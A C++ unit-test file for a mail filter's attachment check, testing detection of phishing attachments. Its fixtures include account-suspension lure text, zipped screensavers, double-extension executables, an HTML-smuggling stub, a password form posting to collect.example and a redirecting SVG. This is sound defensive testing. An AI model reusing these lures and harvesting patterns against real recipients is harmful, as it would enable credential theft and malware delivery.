#include <gtest/gtest.h>

#include "filter/checks.hpp"
#include "filter/filter.hpp"
#include "filter/test_util.hpp"
#include "filter/zip_test_util.hpp"
#include "mail/transfer_encoding.hpp"

namespace facteur::filter {
namespace {

using test::has_reason;
using test::message;
using test::run_check;

// One stored file in a ZIP archive.
std::string zip_holding(const std::string& name) {
  return test::make_zip({{name, "MZ"}});
}

std::string with_attachment(std::string_view text, std::string_view type, std::string_view name,
                            const std::string& bytes, bool disposition = true) {
  std::string m =
      "From: Mail <mail@example.org>\nTo: user@example.org\n"
      "Subject: Your Email Account is Suspended For Security Reasons\nMIME-Version: 1.0\n"
      "Content-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\n";
  m += text;
  m += "\n--b\nContent-Type: ";
  m += type;
  m += "; name=\"";
  m += name;
  m += "\"\nContent-Transfer-Encoding: base64\n";
  if (disposition) m += "Content-Disposition: attachment; filename=\"" + std::string(name) + "\"\n";
  m += "\n" + mail::encode_base64(bytes) + "\n--b--\n";
  return m;
}

TEST(AttachmentCheck, ProgramInsideAZip) {
  // The worm letters of 2004 (Netsky, MyDoom): a ZIP holding a screensaver or a .pif.
  auto check = make_attachment_check();
  auto v =
      run_check(*check, with_attachment("We have suspended some of your email services, to resolve "
                                        "the problem you should read the attached document.",
                                        "application/octet-stream", "email-doc.zip",
                                        zip_holding("email-doc.scr")));
  ASSERT_TRUE(has_reason(v, "phishing.attachment"));
  EXPECT_DOUBLE_EQ(test::points(v, Label::phishing), 5.0);
  EXPECT_NE(v.reasons.front().text.find("email-doc.zip holds email-doc.scr"), std::string::npos);
}

TEST(AttachmentCheck, ProgramDressedAsADocument) {
  auto check = make_attachment_check();
  auto v = run_check(*check, with_attachment("Please find the invoice attached.", "application/pdf",
                                             "invoice_0413.pdf.exe", "MZ"));
  EXPECT_DOUBLE_EQ(test::points(v, Label::phishing), 6.0);
  EXPECT_NE(v.reasons.front().text.find("dressed as"), std::string::npos);
  // Padded with spaces before the real extension, and on a text part with no disposition.
  auto padded = run_check(*check, with_attachment("See attached.", "text/plain",
                                                  "photo.jpg                    .scr", "MZ",
                                                  /*disposition=*/false));
  EXPECT_DOUBLE_EQ(test::points(padded, Label::phishing), 6.0);
}

TEST(AttachmentCheck, DocumentsAndArchivesOfDocumentsAreQuiet) {
  auto check = make_attachment_check();
  EXPECT_TRUE(run_check(*check, with_attachment("The minutes.", "application/pdf", "minutes.pdf",
                                                "%PDF-1.4"))
                  .reasons.empty());
  EXPECT_TRUE(run_check(*check, with_attachment("The photos.", "application/zip", "photos.zip",
                                                zip_holding("beach/IMG_0412.jpg")))
                  .reasons.empty());
  // Not an archive at all, whatever its name says.
  EXPECT_TRUE(run_check(*check, with_attachment("Logs.", "application/zip", "logs.zip",
                                                "not a zip, just text"))
                  .reasons.empty());
  EXPECT_TRUE(run_check(*check, with_attachment("The fix.", "text/x-diff", "fix-crash.patch",
                                                "--- a/x.c\n+++ b/x.c\n"))
                  .reasons.empty());
}

TEST(AttachmentCheck, AnAttachedPageThatActsWhenOpened) {
  // HTML smuggling: the sign-in page travels as a blob a script decodes when it is opened.
  auto check = make_attachment_check();
  const std::string blob = mail::encode_base64(std::string(2000, 'x'), 0);
  auto smuggled =
      run_check(*check, with_attachment("Please review the remittance advice.",
                                        "application/octet-stream", "Remittance_Advice_0412.html",
                                        "<html><body><script>var p='" + blob +
                                            "';document.write(atob(p));</script></body></html>"));
  ASSERT_TRUE(has_reason(smuggled, "phishing.attached-page"));
  EXPECT_DOUBLE_EQ(test::points(smuggled, Label::phishing), 5.0);
  EXPECT_NE(smuggled.reasons.front().text.find("decodes a hidden page"), std::string::npos);
  // A static page with a password form, typed so that the message view does not read it.
  auto form = run_check(
      *check, with_attachment("Your mailbox is full.", "application/octet-stream", "quota.htm",
                              "<form action=\"https://collect.example/p\">Email <input "
                              "name=\"email\"> Password <input type=\"password\" "
                              "name=\"pw\"></form>"));
  EXPECT_TRUE(has_reason(form, "phishing.attached-page"));
  // A small "voice message" that only sends the reader elsewhere.
  auto svg = run_check(*check, with_attachment("Voice message", "image/svg+xml", "VM_0032.svg",
                                               "<svg xmlns=\"http://www.w3.org/2000/svg\">"
                                               "<script>window.location = 'https://x.example/'"
                                               "</script></svg>"));
  EXPECT_TRUE(has_reason(svg, "phishing.attached-page"));
  // A receipt saved as a page, a chart drawn as SVG: nothing runs.
  EXPECT_TRUE(run_check(*check, with_attachment("Your receipt.", "text/html", "receipt.html",
                                                "<html><body><table><tr><td>Total</td><td>12.50"
                                                "</td></tr></table></body></html>"))
                  .reasons.empty());
  EXPECT_TRUE(run_check(*check, with_attachment("The chart.", "image/svg+xml", "sales.svg",
                                                "<svg><rect width=\"10\" height=\"20\"/>"
                                                "</svg>"))
                  .reasons.empty());
  // A newsletter saved as a page, its analytics reading window.location and a library
  // decoding with atob(), an inline image as data: — no blob decoded, no stub.
  std::string newsletter =
      "<html><head><script>gtag('config','G-1',{page_path: window.location.pathname});"
      "function d(s){return atob(s);}</script></head><body><img src=\"data:image/png;base64," +
      mail::encode_base64(std::string(600, 'y'), 0) + "\">";
  for (int i = 0; i < 80; ++i)
    newsletter += "<p>News of the week, item " + std::to_string(i) + ": the council met.</p>";
  newsletter += "</body></html>";
  EXPECT_TRUE(
      run_check(*check, with_attachment("This week.", "text/html", "newsletter.html", newsletter))
          .reasons.empty());
}

TEST(AttachmentCheck, FilesDevelopersMailEachOther) {
  auto check = make_attachment_check();
  // Scripts, a Java archive, a server configuration named after its site: work, not lures.
  for (const char* name : {"deploy.js", "cleanup.ps1", "tool-1.2.jar", "www.example.com",
                           "fix-proxy.reg", "build.bat"})
    EXPECT_TRUE(run_check(*check, with_attachment("Here it is.", "application/octet-stream", name,
                                                  "console.log(1)"))
                    .reasons.empty())
        << name;
  // A project's archive: scripts down its tree, or among many files.
  std::string tree = zip_holding("site/js/app.js");
  EXPECT_TRUE(run_check(*check, with_attachment("The site.", "application/zip", "site.zip", tree))
                  .reasons.empty());
  // The dropper: one script alone at the top of an archive, or a script dressed as a
  // document anywhere.
  EXPECT_TRUE(
      has_reason(run_check(*check, with_attachment("Invoice attached.", "application/zip",
                                                   "invoice.zip", zip_holding("invoice_0413.js"))),
                 "phishing.attachment"));
  EXPECT_TRUE(
      has_reason(run_check(*check, with_attachment("Invoice attached.", "application/octet-stream",
                                                   "invoice.pdf.js", "x")),
                 "phishing.attachment"));
}

TEST(AttachmentCheck, FilterNamesItPhishingAndWarnsAboutTheProgram) {
  FilterConfig config;
  config.model_dir = ::testing::TempDir() + "/attachment-check-models";
  Filter filter(config);
  auto bytes =
      with_attachment("We have suspended some of your email services.", "application/octet-stream",
                      "info-text.zip", zip_holding("info-text.pif"));
  auto v = filter.scan(std::string_view(bytes), Context{});
  EXPECT_EQ(v.label, Label::phishing);
  const Thresholds thresholds = config.thresholds_for("");
  EXPECT_GE(v.score, thresholds.junk);
  bool warned = false;
  for (const auto& h : verdict_headers(v, thresholds))
    if (h.name == "X-Facteur-Verdict")
      warned = h.value.find("do not open its attachment") != std::string::npos;
  EXPECT_TRUE(warned);
}

}  // namespace
}  // namespace facteur::filter
